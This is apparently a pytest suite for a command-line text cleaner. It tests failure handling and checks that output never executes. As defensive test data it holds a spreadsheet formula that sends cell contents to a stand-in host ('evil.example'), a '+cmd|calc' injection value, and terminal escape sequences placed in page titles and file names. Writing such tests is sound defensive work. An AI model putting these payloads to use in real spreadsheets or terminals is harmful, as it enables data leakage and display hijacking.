"""Issue 29 through the real command line: one input never ends the batch, nothing is lost or written
twice, nothing is written outside the folder asked for, output never executes, and a fatal output
error has its own exit status and leaves whole records. Each test is one case of the issue."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from .batch_helpers import PROSE, ROOT, SAMPLES, html_page, records, run, sample_tree, warc_bytes

#: The documented exit statuses (README: Exit status).
OK, SOME_FAILED, USAGE, OUTPUT = 0, 1, 2, 3


def jsonl(*docs: dict) -> bytes:
    return "".join(json.dumps(d) + "\n" for d in docs).encode()


def prose_docs(n: int, start: int = 0) -> list[dict]:
    return [{"id": f"d{i}", "text": f"{PROSE} Story number {i}."} for i in range(start, start + n)]


def no_traceback(result: subprocess.CompletedProcess[bytes]) -> None:
    assert b"Traceback" not in result.stderr, result.stderr.decode(errors="replace")


# -- one input never ends the batch ------------------------------------------------------------

def test_a_gzip_damaged_mid_stream_costs_only_its_rest(tmp_path: Path) -> None:
    packed = bytearray(gzip.compress(jsonl(*prose_docs(300))))
    middle = len(packed) // 2
    packed[middle] ^= 0xFF
    packed[middle + 1] ^= 0xFF
    (tmp_path / "damaged.jsonl.gz").write_bytes(bytes(packed))
    (tmp_path / "good.jsonl").write_bytes(jsonl(*prose_docs(3, 1000)))
    (tmp_path / "z-good.txt").write_text(PROSE)
    result = run("clean", str(tmp_path / "damaged.jsonl.gz"), str(tmp_path / "good.jsonl"), str(tmp_path / "z-good.txt"),
                 "-f", "jsonl", "--jobs", "1")
    no_traceback(result)
    out = records(result.stdout)
    damaged = [r for r in out if "damaged.jsonl.gz" in r["source"]]
    assert damaged[-1]["error_kind"] in ("corrupt", "truncated"), damaged[-1]
    assert all("error" not in r for r in damaged[:-1]) and len(damaged) < 300
    assert [r["id"] for r in out if "good.jsonl" in r["source"]] == ["d1000", "d1001", "d1002"]
    assert any(r["source"].endswith("z-good.txt") and PROSE in r["text"] for r in out)
    assert result.returncode == SOME_FAILED


def test_a_json_line_nested_100000_deep_is_one_malformed_record(tmp_path: Path) -> None:
    deep = b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"
    (tmp_path / "deep.jsonl").write_bytes(jsonl(*prose_docs(1)) + deep + jsonl(*prose_docs(1, 1)))
    result = run("clean", str(tmp_path / "deep.jsonl"), "-f", "jsonl")
    no_traceback(result)
    out = records(result.stdout)
    assert [r.get("error_kind") for r in out] == [None, "malformed", None]
    assert result.returncode == SOME_FAILED


def test_a_lone_surrogate_in_json_is_replaced_and_the_record_written(tmp_path: Path) -> None:
    line = ('{"id": "s\\ud800", "url": "https://example.com/\\udc80", "text": "\\ud800 ' + PROSE + '"}\n').encode()
    (tmp_path / "s.jsonl").write_bytes(line + jsonl(*prose_docs(1)))
    result = run("clean", str(tmp_path / "s.jsonl"), "-f", "jsonl")
    no_traceback(result)
    out = records(result.stdout)  # decodes as strict UTF-8
    assert len(out) == 2 and "error" not in out[0]
    assert out[0]["text"].startswith("\ufffd") and out[0]["stats"]["surrogates"] == 1
    assert out[0]["id"] == "s\ufffd" and out[0]["url"] == "https://example.com/\ufffd"
    assert result.returncode == OK


def test_a_300_character_id_gets_a_bounded_unique_file_name(tmp_path: Path) -> None:
    long_a, long_b = "a" * 300, "a" * 299 + "b"
    (tmp_path / "ids.jsonl").write_bytes(jsonl({"id": long_a, "text": PROSE}, {"id": long_b, "text": PROSE + " B."}))
    result = run("clean", str(tmp_path / "ids.jsonl"), "--output-dir", str(tmp_path / "out"))
    no_traceback(result)
    assert result.returncode == OK
    files = sorted((tmp_path / "out" / "ids.jsonl").iterdir())
    assert len(files) == 2 and all(len(f.name) <= 120 for f in files)
    assert {f.read_text().strip().endswith("B.") for f in files} == {True, False}


@pytest.mark.parametrize("where", ["a file", "under a file", "unwritable"])
def test_an_output_dir_that_cannot_be_used_is_a_usage_error(tmp_path: Path, where: str) -> None:
    (tmp_path / "file.txt").write_text("not a folder")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    target = {"a file": tmp_path / "file.txt", "under a file": tmp_path / "file.txt" / "out",
              "unwritable": locked / "out"}[where]
    if where == "unwritable" and os.access(locked, os.W_OK):  # root writes anywhere, but in /proc
        target = Path("/proc/cleaner-output")
    result = run("clean", str(SAMPLES[0]), "--output-dir", str(target))
    no_traceback(result)
    assert result.returncode == USAGE and b"usage error" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


# -- nothing lost, nothing written twice ----------------------------------------------------------

def test_resume_by_another_spelling_of_the_same_file_writes_nothing_twice(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "docs.jsonl").write_bytes(jsonl(*prose_docs(40)))
    out = tmp_path / "out.jsonl"
    first = subprocess.run([sys.executable, "-m", "cleaner", "clean", "data/docs.jsonl", "-o", str(out), "-q"],
                           cwd=tmp_path, capture_output=True, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert first.returncode == OK, first.stderr
    assert len(records(out.read_bytes())) == 40
    again = subprocess.run([sys.executable, "-m", "cleaner", "clean", str(data / ".." / "data" / "docs.jsonl"),
                            "-o", str(out), "--resume", "-q"], cwd=ROOT, capture_output=True)
    assert again.returncode == OK, again.stderr
    out_records = records(out.read_bytes())
    assert len(out_records) == 40 and len({r["source"] for r in out_records}) == 40


def test_warc_records_with_one_record_id_stay_two_documents(tmp_path: Path) -> None:
    pages = [(f"https://example.com/{i}", html_page(f"{PROSE} Story {i}."), "text/html") for i in range(3)]
    archive = warc_bytes(pages, compress=False)
    ids = [line.split(b": ", 1)[1].strip() for line in archive.split(b"\r\n") if line.startswith(b"WARC-Record-ID")]
    # (ids: the warcinfo record's, then a request and a response per page)
    archive = archive.replace(ids[4], ids[2])  # the second response takes the first one's id
    (tmp_path / "dup.warc").write_bytes(archive)
    out = tmp_path / "out.jsonl"
    result = run("clean", str(tmp_path / "dup.warc"), "-o", str(out), "-q")
    assert result.returncode == OK, result.stderr
    got = records(out.read_bytes())
    assert [r["url"] for r in got] == [p[0] for p in pages]
    assert len({r["source"] for r in got}) == 3 and len({r["id"] for r in got}) == 3
    assert got[1]["id"] == got[0]["id"] + "#2"
    # --resume keys on the source: nothing is redone, nothing lost
    assert run("clean", str(tmp_path / "dup.warc"), "-o", str(out), "--resume", "-q").returncode == OK
    assert len(records(out.read_bytes())) == 3
    folder = run("clean", str(tmp_path / "dup.warc"), "--output-dir", str(tmp_path / "dir"), "-q")
    assert folder.returncode == OK
    assert len(list((tmp_path / "dir").rglob("*.txt"))) == 3


def test_colliding_output_names_are_made_unique_and_said(tmp_path: Path) -> None:
    tree = tmp_path / "in"
    tree.mkdir()
    (tree / "x.txt").write_text(PROSE + " Plain text.")
    (tree / "x.html").write_bytes(html_page(PROSE + " From HTML."))
    (tree / "x.html.gz").write_bytes(gzip.compress(html_page(PROSE + " From gzip.")))
    (tree / "X.htm").write_bytes(html_page(PROSE + " Upper case."))
    (tree / "recs.jsonl").write_bytes(jsonl({"id": "same", "text": PROSE + " One."}, {"id": "same", "text": PROSE + " Two."}))
    result = run("clean", str(tree), "--output-dir", str(tmp_path / "out"))
    no_traceback(result)
    assert result.returncode == OK
    written = sorted(p.relative_to(tmp_path / "out").as_posix() for p in (tmp_path / "out").rglob("*") if p.is_file())
    # (X.htm comes first in the sorted walk and takes "x.txt" for every case of it)
    assert written == ["X.txt", "recs.jsonl/same-2.txt", "recs.jsonl/same.txt", "x-2.txt", "x-3.txt", "x-4.txt"]
    texts = {(tmp_path / "out" / name).read_text().strip().rsplit(" ", 2)[-1] for name in written}
    assert len(texts) == 6  # six documents, six different bodies: nothing overwritten
    assert result.stderr.count(b"note:") == 4 and b"4 output file name(s) made unique" in result.stderr


def test_symlinks_inside_the_output_dir_are_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "precious.txt").write_text("keep me")
    tree = tmp_path / "in"
    (tree / "sub").mkdir(parents=True)
    (tree / "doc.txt").write_text(PROSE)
    (tree / "sub" / "inner.txt").write_text(PROSE)
    out = tmp_path / "out"
    out.mkdir()
    (out / "doc.txt").symlink_to(outside / "precious.txt")  # a file link where an output file goes
    (out / "sub").symlink_to(outside)  # a folder link where an output folder goes
    result = run("clean", str(tree), "--output-dir", str(out))
    no_traceback(result)
    assert (outside / "precious.txt").read_text() == "keep me"
    assert sorted(p.name for p in outside.iterdir()) == ["precious.txt"]
    assert not (out / "doc.txt").is_symlink() and PROSE in (out / "doc.txt").read_text()
    assert result.returncode == SOME_FAILED and b"unwritable" not in result.stdout
    assert b"sub/inner.txt" in result.stderr and b"1 of 2 input(s) failed" in result.stderr


# -- output that never executes -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'


def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path: Path) -> None:
    lines = [
        {"id": "=1+1", "url": "https://example.com/a", "html": f"<html><head><title>{FORMULA}</title>"
         '<meta name="author" content="+cmd|calc"></head><body><article><h1>=SUM(A1:A9)</h1>'
         f"<p>{PROSE}</p></article></body></html>"},
        {"id": "@SUM(1)", "text": f"-2+3\n\n{PROSE}"},
        {"id": "\t=tab", "text": f"\r=cr {PROSE}"},
    ]
    result = run("clean", "-", "--input-format", "jsonl", "-f", "csv", "-q",
                 stdin="".join(json.dumps(r) + "\n" for r in lines).encode())
    no_traceback(result)
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert rows[0]["id"] == "'=1+1" and rows[0]["title"].startswith("'=")
    assert rows[1]["id"] == "'@SUM(1)" and rows[2]["id"] == "'\t=tab"
    assert result.stdout.startswith(b'"id","source"')  # every cell quoted


ESCAPES = (b"\x1b", b"\x07", b"\x9b", "\x9b".encode())


def hostile_html() -> bytes:
    return (b"<html><head><title>&#x1b;]0;pwned&#x7; Budget &#27;[2J vote</title>"
            b'<meta name="author" content="Jane &#x1b;[31mDoe"></head><body><article>'
            + b"<h1>&#x1b;[2JBudget &#x9b;2J vote</h1>"
            + f"<p>{PROSE}</p><p>{PROSE}</p></article></body></html>".encode())


@pytest.mark.parametrize("fmt", ["text", "markdown", "csv", "html", "jsonl"])
def test_control_characters_from_the_page_never_reach_the_output(tmp_path: Path, fmt: str) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(hostile_html())
    result = run("clean", str(page), "-f", fmt)
    no_traceback(result)
    assert result.returncode == OK
    for escape in ESCAPES:
        assert escape not in result.stdout and escape not in result.stderr


def test_explain_shows_no_control_characters(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(hostile_html())
    result = run("explain", str(page))
    assert result.returncode == OK, result.stderr
    for escape in ESCAPES:
        assert escape not in result.stdout


def test_a_file_name_with_escape_sequences_is_shown_escaped(tmp_path: Path) -> None:
    bad = tmp_path / "evil\x1b]0;pwned\x07[2J.txt"
    bad.write_bytes(b"")  # empty: an error line names it
    good = tmp_path / "good\x1b[31m.txt"
    good.write_text(PROSE)
    for args in (("-f", "text"), ("-f", "jsonl"), ("-f", "markdown"), ("--output-dir", str(tmp_path / "out"))):
        result = run("clean", str(bad), str(good), *args)
        assert result.returncode == SOME_FAILED
        for escape in ESCAPES:
            assert escape not in result.stderr and escape not in result.stdout, args
        if args[-1] == "jsonl":  # the error is a record there: the name in JSON, escaped as JSON does
            assert records(result.stdout)[0]["source"].endswith("evil\\x1b]0;pwned\\x07[2J.txt")
        else:
            assert b"evil\\x1b]0;pwned\\x07[2J.txt" in result.stderr
    explained = run("explain", str(bad), str(good))
    for escape in ESCAPES:
        assert escape not in explained.stderr and escape not in explained.stdout


# -- fatal output errors --------------------------------------------------------------------------

def test_a_full_disk_is_one_clear_line_and_its_own_exit_status(tmp_path: Path) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    sample_tree(tmp_path / "in", 3)
    for fmt in ("jsonl", "text", "csv", "json", "markdown"):
        result = run("clean", str(tmp_path / "in"), "-o", "/dev/full", "-f", fmt, "--jobs", "1")
        no_traceback(result)
        assert result.returncode == OUTPUT, (fmt, result.stderr)
        assert result.stderr.count(b"output error") == 1 and b"No space left on device" in result.stderr


def _limit_file_size(limit: int):  # noqa: ANN202 - a preexec_fn
    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def test_a_file_size_limit_leaves_whole_lines_and_the_run_resumable(tmp_path: Path) -> None:
    (tmp_path / "docs.jsonl").write_bytes(jsonl(*prose_docs(120)))
    out = tmp_path / "out.jsonl"
    args = [sys.executable, "-m", "cleaner", "clean", str(tmp_path / "docs.jsonl"), "-o", str(out), "--jobs", "1"]
    cut = subprocess.run(args, cwd=ROOT, capture_output=True, preexec_fn=_limit_file_size(50_000))
    no_traceback(cut)
    assert cut.returncode == OUTPUT, cut.stderr
    assert b"--resume" in cut.stderr
    partial = out.read_bytes()
    assert partial.endswith(b"\n") and 0 < partial.count(b"\n") < 120
    records(partial)  # whole records only
    done = subprocess.run(args + ["--resume"], cwd=ROOT, capture_output=True)
    assert done.returncode == OK, done.stderr
    assert sorted(r["id"] for r in records(out.read_bytes())) == sorted(f"d{i}" for i in range(120))


def test_a_full_disk_in_output_dir_mode_is_fatal_too(tmp_path: Path) -> None:
    (tmp_path / "docs.jsonl").write_bytes(jsonl(*prose_docs(30)))
    args = [sys.executable, "-m", "cleaner", "clean", str(tmp_path / "docs.jsonl"), "--output-dir", str(tmp_path / "o"),
            "--jobs", "1"]
    result = subprocess.run(args, cwd=ROOT, capture_output=True, preexec_fn=_limit_file_size(100))
    no_traceback(result)
    assert result.returncode == OUTPUT, result.stderr
    files = list((tmp_path / "o").rglob("*"))
    assert all(not f.name.endswith(".tmp") for f in files)  # no half-written file left behind
    assert all(f.read_text().endswith("\n") for f in files if f.is_file())


# -- the cap before the article ------------------------------------------------------------------

def test_a_page_cut_by_a_cap_before_its_article_says_so_in_its_record(tmp_path: Path) -> None:
    article = f"<article><h1>Budget vote</h1><p>{PROSE}</p><p>{PROSE}</p></article>"
    (tmp_path / "nested.html").write_text(f"<html><body>{'<div>' * 200_000}{article}</body></html>")
    (tmp_path / "siblings.html").write_text(f"<html><body>{'<div></div>' * 200_000}{article}</body></html>")
    result = run("clean", str(tmp_path / "nested.html"), str(tmp_path / "siblings.html"), "-f", "jsonl")
    no_traceback(result)
    nested, siblings = records(result.stdout)
    assert PROSE in nested["text"]
    assert siblings["error_kind"] == "too-large" and "max_html_nodes" in siblings["error"]
    assert result.returncode == SOME_FAILED


def test_a_chunk_whose_results_never_come_back_costs_only_its_culprit(monkeypatch: pytest.MonkeyPatch) -> None:
    """The pool's boundary: an exception out of a worker's chunk (not a crash) is retried document by
    document, and only the document that raises it gets an `internal` error record."""
    from cleaner import CleanerConfig
    from cleaner.batch import pool
    from cleaner.batch.readers import InputDoc

    real = pool.clean_one

    def poisoned(cleaner, doc):  # noqa: ANN001, ANN202 - the workers are forked with it
        if b"POISON" in (doc.data or b""):
            raise RuntimeError("results that cannot come back")
        return real(cleaner, doc)

    monkeypatch.setattr(pool, "_START_METHOD", "fork")
    monkeypatch.setattr(pool, "clean_one", poisoned)
    docs = [InputDoc(f"d{i}", f"d{i}", f"d{i}", (PROSE + (" POISON" if i == 21 else "")).encode(), "text")
            for i in range(40)]
    results = list(pool.run_batch(docs, CleanerConfig(), jobs=2))
    assert [r.source for r in results] == [d.source for d in docs]
    assert [r.source for r in results if r.error_kind] == ["d21"]
    assert results[21].error_kind == "internal" and "cannot come back" in results[21].error
